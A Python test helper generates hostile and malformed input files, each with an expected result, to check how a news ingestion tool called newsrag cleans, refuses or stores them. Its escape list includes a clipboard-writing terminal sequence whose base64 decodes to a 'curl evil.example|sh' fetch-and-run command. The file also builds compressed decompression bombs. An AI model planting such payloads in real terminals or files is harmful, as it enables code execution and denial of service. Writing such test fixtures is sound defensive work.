"""A seeded generator of malformed and hostile input files, each with the outcome newsrag owes it.

    >>> corpus = generate(tmp_path / "corpus", tmp_path / "secret.txt")   # doctest: +SKIP
    >>> sum(1 for f in corpus.files if f.refused) >= 500                   # doctest: +SKIP
    True

The rule for hostile characters (see ingest/clean.py): a file whose only fault is a few
control characters (NUL included), ANSI/OSC escapes, bidi overrides or stray BOMs is stored
with them removed, and its text must equal that of its clean twin; text in which more than 1 %
of the characters are controls is refused as binary. Feeds and HTML live in hostile_markup.py.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import random
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from tests.conftest import SEED_TEXT, rtqa_records

# What a refused file's reason must match (regexes).
BINARY = r"binary content|undecodable"
NOT_A_FEED = r"not a readable feed|feed has no entries"
TOO_SHORT = r"text too short"
TOO_LONG = r"text longer than ingest\.max_article_chars"

# Injected into good text: every one is removed whole, so the text equals its clean twin's.
# (A lone ESC or C1 CSI would legitimately eat the character after it, so they come only in
# complete sequences.)
CONTROLS = [chr(c) for c in [*range(0x00, 0x09), *range(0x0E, 0x1B), *range(0x1C, 0x20), 0x7F,
                             *range(0x80, 0x85), *range(0x86, 0x90), *range(0x91, 0x98),
                             0x99, 0x9A, 0x9C]]
ESCAPES = ["\x1b[31m", "\x1b[1;4;38;5;196m", "\x1b[0m", "\x1b[2J", "\x1b[H", "\x1b]0;pwned\x07",
           "\x1b]8;;https://evil.example/\x1b\\", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
           "\x1b(B", "\x9b32m"]
BIDI = [chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0xFEFF]]


@dataclass(frozen=True)
class Expected:
    """One generated file and what ingesting it must give."""

    name: str  # relative to the corpus folder
    category: str
    stored: int = 0  # articles it must store, no more, no fewer
    refused: tuple[str, ...] = ()  # one regex per skip it must report
    twin: str = ""  # a clean file whose one stored article's text this one's must equal


@dataclass
class Corpus:
    folder: Path
    secret: str  # a string in a local file that hostile feeds point at
    files: list[Expected] = field(default_factory=list)
    rnd: random.Random = field(default_factory=lambda: random.Random(8))

    def add(self, name: str, data: bytes | str, category: str, stored: int = 0,
            refused: tuple[str, ...] = (), twin: str = "") -> str:
        path = self.folder / name
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        self.files.append(Expected(name, category, stored, refused, twin))
        return name

    def categories(self) -> dict[str, int]:
        counts: dict[str, int] = {}
        for expected in self.files:
            counts[expected.category] = counts.get(expected.category, 0) + 1
        return counts


def news(count: int, max_chars: int = 6000) -> list[dict[str, str]]:
    """Real articles (RealTime QA), short enough to keep the batch quick."""
    records = [r for r in rtqa_records(count * 3) if 400 < len(r["text"]) <= max_chars]
    return records[:count]


def generate(folder: Path, secret_file: Path, seed: int = 8) -> Corpus:
    """Write every category into `folder` (the secret file must lie outside it)."""
    from tests.hostile_markup import add_feeds, add_html, add_huge

    folder.mkdir(parents=True, exist_ok=True)
    secret = f"NEWSRAG-SECRET-{random.Random(seed).getrandbits(64):016x}"
    # A valid feed: were it ever read (as an external entity, or by feedparser opening a
    # path), its secret would be stored.
    secret_file.write_text(
        f'<?xml version="1.0"?><rss version="2.0"><channel><title>{secret}</title><item>'
        f"<title>{secret}</title><guid>{secret}</guid><description>The secret is {secret}, "
        f"and this sentence makes it long enough.</description></item></channel></rss>\n")
    corpus = Corpus(folder, secret, rnd=random.Random(seed))
    articles = news(80)
    for add in (add_good, add_sanitised, add_encodings, add_binary, add_texts, add_json):
        add(corpus, articles)
    add_html(corpus, articles, secret_file)
    add_feeds(corpus, articles, secret_file)
    add_huge(corpus)
    return corpus


def plain(record: dict[str, str], limit: int = 3000) -> str:
    return f"{record['title']}\n\n{record['text'][:limit]}\n"


def add_good(corpus: Corpus, articles: list[dict[str, str]]) -> None:
    corpus.add("sample-trump-putin.txt", SEED_TEXT, "good", stored=1)
    for i, record in enumerate(articles[:12]):
        corpus.add(f"good-{i:02d}.txt", plain(record), "good", stored=1)
    for i, name in enumerate(["Überraschung in Köln.txt", "news 2024 (final).md"]):
        corpus.add(name, plain(articles[12 + i]), "good", stored=1)
    lines = [json.dumps({"id": f"good-jsonl-{i}", "title": r["title"], "text": r["text"],
                         "published": r["publish_date"], "authors": r["authors"], "url": r["url"]})
             for i, r in enumerate(articles[14:34])]
    corpus.add("good-records.jsonl", "\n".join(lines) + "\n", "good", stored=20)
    array = [{"doc_id": f"good-json-{i}", "headline": r["title"], "body": r["text"]}
             for i, r in enumerate(articles[34:39])]
    corpus.add("good-array.json", json.dumps(array), "good", stored=5)
    nested = {"id": "good-json-nested", "title": "Nested", "text": articles[39]["text"]}
    corpus.add("good-nested.json", json.dumps({"articles": [nested]}), "good", stored=1)


def inject(text: str, rnd: random.Random, pool: list[str], every: int) -> str:
    """`text` with a piece of `pool` at about one random place in `every` characters."""
    spots = sorted(rnd.sample(range(1, len(text)), max(1, len(text) // every)))
    out, last = [], 0
    for spot in spots:
        out += [text[last:spot], rnd.choice(pool)]
        last = spot
    return "".join([*out, text[last:]])


def add_sanitised(corpus: Corpus, articles: list[dict[str, str]]) -> None:
    """A stray control, escape or bidi override does not cost an article (stored, cleaned)."""
    rnd = corpus.rnd
    pools = {"controls": CONTROLS, "escapes": ESCAPES, "bidi": BIDI,
             "mixed": CONTROLS + ESCAPES + BIDI}
    for i, record in enumerate(articles[40:70]):
        kind = list(pools)[i % 4]
        clean = plain(record, 2500)
        for ext in (".txt", ".md") if i % 3 else (".txt",):
            twin = corpus.add(f"clean-twin-{i:02d}{ext}", clean, "good", stored=1)
            dirty = inject(clean, rnd, pools[kind], every=rnd.choice([200, 400, 800]))
            corpus.add(f"hostile-{kind}-{i:02d}{ext}", dirty, f"sanitised: {kind}", stored=1,
                       twin=twin)
        body = record["text"][:2500]
        twin = corpus.add(f"clean-twin-{i:02d}.jsonl", json.dumps({"id": f"twin-{i}", "text": body}),
                          "good", stored=1)
        dirty = json.dumps({"id": f"hostile-{i}", "text": inject(body, rnd, pools[kind], 300)})
        corpus.add(f"hostile-{kind}-{i:02d}.jsonl", dirty, f"sanitised: {kind}", stored=1,
                   twin=twin)


def add_encodings(corpus: Corpus, articles: list[dict[str, str]]) -> None:
    """Good text in other encodings or line ends is stored, equal to its UTF-8 twin."""
    for i, record in enumerate(articles[70:80]):
        clean = plain(record, 2000)
        twin = corpus.add(f"utf8-twin-{i:02d}.txt", clean, "good", stored=1)
        variants = {
            "utf16le-bom": b"\xff\xfe" + clean.encode("utf-16-le"),
            "utf16be-bom": b"\xfe\xff" + clean.encode("utf-16-be"),
            "utf16le": clean.encode("utf-16-le"), "utf16be": clean.encode("utf-16-be"),
            "utf8-bom": b"\xef\xbb\xbf" + clean.encode(),
            "crlf": clean.replace("\n", "\r\n").encode(), "cr": clean.replace("\n", "\r").encode(),
            "formfeed": clean.replace("\n\n", "\n\x0c", 3).encode(),
            "truncated-utf8": clean.rstrip("\n").encode() + "€".encode()[: 1 + i % 2],
            "truncated-utf16": clean.encode("utf-16-le") + "😀".encode("utf-16-le")[: 1 + i % 3],
        }
        for kind, data in variants.items():
            corpus.add(f"{kind}-{i:02d}.txt", data, f"encoding: {kind}", stored=1, twin=twin)
        latin = clean.encode("cp1252", errors="ignore")
        twin = corpus.add(f"cp1252-twin-{i:02d}.txt", latin.decode("cp1252"), "good", stored=1)
        corpus.add(f"cp1252-{i:02d}.txt", latin, "encoding: windows-1252", stored=1, twin=twin)


def random_bytes(rnd: random.Random, alphabet: list[int], size: int) -> bytes:
    table = bytes(alphabet[b % len(alphabet)] for b in range(256))  # near-uniform, and fast
    return rnd.randbytes(size).translate(table)


MAGIC = [b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", b"GIF89a\x01\x00",
         b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", b"\x7fELF\x02\x01\x01\x00", b"SQLite format 3\x00",
         b"\x00\x00\x00\x18ftypmp42", b"\xca\xfe\xba\xbe\x00\x00\x00\x34", b"MZ\x90\x00\x03\x00",
         b"ID3\x04\x00\x00\x00\x00"]
TEXT_EXTS = [".txt", ".html", ".htm", ".md", ".json", ".jsonl"]


def add_binary(corpus: Corpus, articles: list[dict[str, str]]) -> None:
    """Binary in a text file's clothing: refused, whatever its bytes and extension."""
    rnd = corpus.rnd
    alphabets = {"no-nul": list(range(1, 256)), "high": list(range(0x80, 0x100)),
                 "printable": list(range(0x20, 0x100)), "controls": list(range(1, 0x20)),
                 "latin-noise": [*range(0x41, 0x5B), *range(0xC0, 0x100)]}
    for i in range(180):
        kind = list(alphabets)[i % len(alphabets)]
        data = random_bytes(rnd, alphabets[kind], rnd.randint(600, 40_000))
        corpus.add(f"binary-{kind}-{i:03d}{TEXT_EXTS[i % 6]}", data, f"binary: {kind}",
                   refused=(BINARY,))
    for i in range(40):
        data = MAGIC[i % len(MAGIC)] + random_bytes(rnd, list(range(256)), rnd.randint(500, 20_000))
        corpus.add(f"binary-magic-{i:03d}{TEXT_EXTS[i % 6]}", data, "binary: file formats",
                   refused=(BINARY + "|invalid utf-16",))
    for i, (name, data) in enumerate(bombs()):
        ext = [".txt", ".html", ".md", ".json", ".jsonl", ".xml"][(i + i // 6) % 6]
        corpus.add(f"zip-bomb-{name}-{i:02d}{ext}", data, "zip bomb renamed",
                   refused=(NOT_A_FEED if ext == ".xml" else BINARY,))
    for i, record in enumerate(articles[:30]):
        text = plain(record, 2000)
        pool, label = (["\x00"], "nul") if i % 2 else (CONTROLS[1:], "controls")
        corpus.add(f"binary-{label}-heavy-{i:02d}.txt", inject(text, rnd, pool, every=20),
                   f"binary: text with many {label}", refused=(BINARY,))


def bombs() -> list[tuple[str, bytes]]:
    """Compressed zero streams: a few KB that would inflate to MB or GB. Never inflated."""
    zeros = bytes(8 << 20)
    member = gzip.compress(zeros, compresslevel=9, mtime=0)
    found = [("gzip-8mb", member), ("gzip-1gb", member * 128)]  # concatenated members
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for n in range(4):
            archive.writestr(f"zeros-{n}.txt", zeros)
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w", zipfile.ZIP_DEFLATED) as archive:
        for n in range(8):
            archive.writestr(f"layer-{n}.zip", packed.getvalue())
    found += [("zip-32mb", packed.getvalue()), ("zip-nested", nested.getvalue()),
              ("bz2", bz2.compress(zeros)), ("xz", lzma.compress(zeros))]
    return found * 4


def add_texts(corpus: Corpus, articles: list[dict[str, str]]) -> None:
    """Empty, blank, stub, overlong and broken-UTF-16 text files."""
    blanks = [b"", b"   \n\n\t ", b"\xef\xbb\xbf", b"\xff\xfe", "\u00a0\u2028 \n".encode(), b"\r\r\r"]
    for i in range(18):
        data = blanks[i % len(blanks)]
        corpus.add(f"blank-{i:02d}{TEXT_EXTS[i % 6]}", data, "empty or blank",
                   refused=(r"empty file|no text",))
    for i in range(12):
        stub = ["Title\nShort.", "Just a headline", "# Heading\n\n*", "---\ntitle: x\n---\nHi."][i % 4]
        corpus.add(f"stub-{i:02d}{['.txt', '.md'][i % 2]}", stub, "too short", refused=(TOO_SHORT,))
    for i in range(6):
        words = " ".join(corpus.rnd.choices(articles[i]["text"].split(), k=45_000))
        corpus.add(f"overlong-{i}.txt", f"Overlong\n{words}", "too long", refused=(TOO_LONG,))
    for i, record in enumerate(articles[:12]):
        good = plain(record, 800).encode("utf-16-le" if i % 2 else "utf-16-be")
        cut = len(good) // 2 & ~1
        lone = b"\x00\xdc" if i % 2 else b"\xdc\x00"  # an unpaired low surrogate
        bom = (b"\xfe\xff", b"\xff\xfe")[i % 2] if i % 3 else b""
        corpus.add(f"bad-utf16-{i:02d}.txt", bom + good[:cut] + lone + good[cut:],
                   "invalid UTF-16", refused=(r"invalid utf-16",))
    for i in range(10):  # markup that made markdown stripping quadratic: still text
        line = ["[" * 60_000, "*a " * 20_000, "`" * 60_000, "](" * 30_000, "**x" * 20_000][i % 5]
        corpus.add(f"markdown-hostile-{i}.md", f"Markdown title {i}\n\n{line}\n",
                   "sanitised: hostile markdown", stored=1)


JSON_BAD_LINES: list[tuple[str, str]] = [
    ('{"id": "x", "text": "unterminated', "malformed JSON"), ("{broken", "malformed JSON"),
    ("[" * 100_000, "malformed JSON"), ('{"id": ' + "9" * 5000 + "}", "malformed JSON"),
    ("null", "record is a NoneType"), ("[]", "record is a list"), ("42", "record is a int"),
    ('"a string"', "record is a str"), ("NaN", "record is a float"), ("\x00\x01\x02", "malformed JSON"),
    ('{"text": 42}', "text is a number"), ('{"text": {"p": "x"}}', "text is a object"),
    ('{"text": ["para", "graph"]}', "text is a list"), ('{"title": "only a title"}', "no text field"),
    ('{"text": "short"}', TOO_SHORT),
]


def _json_bad_id(value: object) -> tuple[str, str]:
    return json.dumps({"id": value, "text": "A perfectly fine text that is long enough."}), "id is a"


def add_json(corpus: Corpus, articles: list[dict[str, str]]) -> None:
    """JSON Lines with broken lines and wrong types: good lines stored, each bad one reported."""
    rnd = corpus.rnd
    bad_lines = [*JSON_BAD_LINES, *(_json_bad_id(v) for v in (["a"], {"k": 1}, 1.5, True)),
                 (json.dumps({"id": "x" * 300, "text": "long enough text, more than forty chars"}),
                  "id longer than 256")]
    for i in range(60):
        lines: list[tuple[str, str | None]] = []
        for n in range(rnd.randint(1, 3)):
            record = articles[(i + n) % len(articles)]
            odd: dict[str, object] = [{}, {"title": {"en": "x"}}, {"published": "32/13/2022"}, {"authors": [[1], 2]},
                   {"published": 1e300}, {"url": "http://[broken"}, {"text": record["text"][:900]
                   + "\u2028 continued after a line separator."}][(i + n) % 7]
            good = {"id": f"jl-{i}-{n}", "text": record["text"][:3000], **odd}
            lines.append((json.dumps(good, ensure_ascii=False), None))  # raw U+2028 and all
        lines += rnd.sample(bad_lines, rnd.randint(2, 5))
        if i % 5 == 0:  # whichever copy comes second is the duplicate
            lines.append((lines[0][0], "duplicate article id"))
        rnd.shuffle(lines)
        text = "\n".join(line for line, _ in lines) + ("\n" if i % 2 else "\n\n  \n")
        corpus.add(f"jsonl-broken-{i:02d}.jsonl", text, "JSONL broken lines and wrong types",
                   stored=sum(1 for _, why in lines if why is None),
                   refused=tuple(why for _, why in lines if why is not None))
    wrong_top = [("42", "JSON is neither"), ('"text"', "JSON is neither"), ("null", "JSON is neither"),
                 ("true", "JSON is neither"), ("[" * 50_000 + "]" * 50_000, "invalid JSON"),
                 ('[{"text": "cut', "invalid JSON"), ("", "empty file"), ("{,}", "invalid JSON"),
                 ('{"articles": 5}', "no text field"), ('[1, "a", null]', "record is a")]
    for i in range(30):
        raw, why = wrong_top[i % len(wrong_top)]
        refused = (why,) * (3 if raw.startswith("[1,") else 1)
        corpus.add(f"json-wrong-{i:02d}.json", raw, "JSON of the wrong shape", refused=refused)
